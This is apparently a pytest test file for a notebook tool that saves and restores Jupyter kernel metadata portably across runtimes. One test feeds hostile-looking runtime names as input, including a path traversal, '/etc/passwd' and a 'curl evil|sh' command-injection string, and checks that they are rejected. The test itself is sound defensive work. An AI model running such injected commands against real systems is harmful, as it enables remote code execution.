"""What the page sees and what the file says about a notebook's kernel."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ropeway.notebooks.portable import opened, saved, wanted_kernel

KERNELS: dict[str, dict[str, str]] = {
    "python3": {
        "runtime": "here",
        "kernel": "python3",
        "display_name": "Python 3 (ipykernel)",
        "language": "python",
    },
    "gpu.python3": {
        "runtime": "gpu",
        "kernel": "python3",
        "display_name": "Python 3 (ipykernel)",
        "language": "python",
    },
    "gpu.conda-env-torch-py": {
        "runtime": "gpu",
        "kernel": "conda-env-torch-py",
        "display_name": "Python [conda env:torch]",
        "language": "python",
    },
    "gpu.ir": {"runtime": "gpu", "kernel": "ir", "display_name": "R", "language": "R"},
}


def find(runtime: str, kernel: str) -> tuple[str, str] | None:
    """The workspace's names for a runtime's kernel."""
    name = kernel if runtime == "here" else f"{runtime}.{kernel}"
    return (name, f"{KERNELS[name]['display_name']} · {runtime}") if name in KERNELS else None


def page(name: str) -> dict[str, Any]:
    """Metadata as JupyterLab writes it for a kernel."""
    known = KERNELS[name]
    shown = f"Python 3 · {known['runtime']}"
    return {"kernelspec": {"name": name, "display_name": shown, "language": known["language"]}}


def test_a_notebook_of_another_runtime_says_python3() -> None:
    """On disk the kernel is python3 and the runtime is under metadata.ropeway."""
    assert saved(page("gpu.python3"), KERNELS.get, find) == {
        "kernelspec": {
            "name": "python3",
            "display_name": "Python 3 (ipykernel)",
            "language": "python",
        },
        "ropeway": {"runtime": "gpu"},
    }


def test_an_environment_of_another_runtime_is_kept() -> None:
    """Which environment a notebook runs in is kept without plain Jupyter asking about it."""
    on_disk = saved(page("gpu.conda-env-torch-py"), KERNELS.get, find)
    assert on_disk["kernelspec"]["name"] == "python3"
    assert on_disk["ropeway"] == {"runtime": "gpu", "kernel": "conda-env-torch-py"}


def test_another_language_keeps_its_kernel() -> None:
    """An R notebook stays an R notebook."""
    assert saved(page("gpu.ir"), KERNELS.get, find)["kernelspec"]["name"] == "ir"


def test_a_notebook_that_stays_here_is_not_touched() -> None:
    """A notebook of the runtime here gets no metadata of ours."""
    on_disk = saved(page("python3"), KERNELS.get, find)
    assert "ropeway" not in on_disk
    assert on_disk["kernelspec"]["display_name"] == "Python 3 (ipykernel)"


def test_coming_back_here_leaves_no_trace() -> None:
    """Switching to another runtime and back gives the file that there was."""
    first = saved(page("python3"), KERNELS.get, find)
    away = saved({**first, **page("gpu.python3")}, KERNELS.get, find)
    assert saved({**away, **page("python3")}, KERNELS.get, find) == first


def test_other_settings_of_ours_are_kept() -> None:
    """What else lies under metadata.ropeway survives."""
    metadata = {**page("gpu.python3"), "ropeway": {"form": 1, "runtime": "old"}}
    assert saved(metadata, KERNELS.get, find)["ropeway"] == {"form": 1, "runtime": "gpu"}


@given(st.sampled_from(sorted(KERNELS)))
def test_the_page_gets_back_what_it_saved(name: str) -> None:
    """Opening a saved notebook gives the kernel with which it was saved."""
    assert opened(saved(page(name), KERNELS.get, find), find)["kernelspec"]["name"] == name


def test_an_unknown_runtime_leaves_the_notebook_as_it_is() -> None:
    """A notebook of a runtime that is not connected here opens with its plain kernel."""
    on_disk = {"kernelspec": {"name": "python3"}, "ropeway": {"runtime": "lab"}}
    assert opened(on_disk, find) == on_disk
    assert wanted_kernel(on_disk) == ("lab", "python3")


def test_a_save_keeps_the_wish_for_an_unknown_runtime() -> None:
    """Saving a notebook here does not forget the runtime it asked for, until it is known."""
    wish = {"runtime": "lab-7", "kernel": "conda-env-x-py"}
    assert saved({**page("python3"), "ropeway": wish}, KERNELS.get, find)["ropeway"] == wish


@pytest.mark.parametrize("name", ["../x", "/etc/passwd", "a" * 300, "x; curl evil|sh", "\0", ""])
def test_what_is_no_name_is_no_runtime(name: str) -> None:
    """A notebook's text does not get to be a path or a command."""
    assert wanted_kernel({"ropeway": {"runtime": name}}) is None


def test_a_runtime_that_was_removed_still_saves_portably() -> None:
    """A page that is open while its runtime is disconnected does not write our names to disk."""
    spec = {"name": "old.python3", "display_name": "Python 3 · old", "language": "python"}
    on_disk = saved({"kernelspec": spec}, {}.get, find)
    assert on_disk["kernelspec"]["name"] == "python3"
    assert on_disk["ropeway"] == {"runtime": "old"}


def test_strange_metadata_passes() -> None:
    """Metadata that is not as it should be is left alone."""
    for metadata in ({}, {"kernelspec": None}, {"kernelspec": {"name": 3}}, {"ropeway": "x"}):
        assert saved(metadata, KERNELS.get, find) == metadata
        assert opened(metadata, find) == metadata
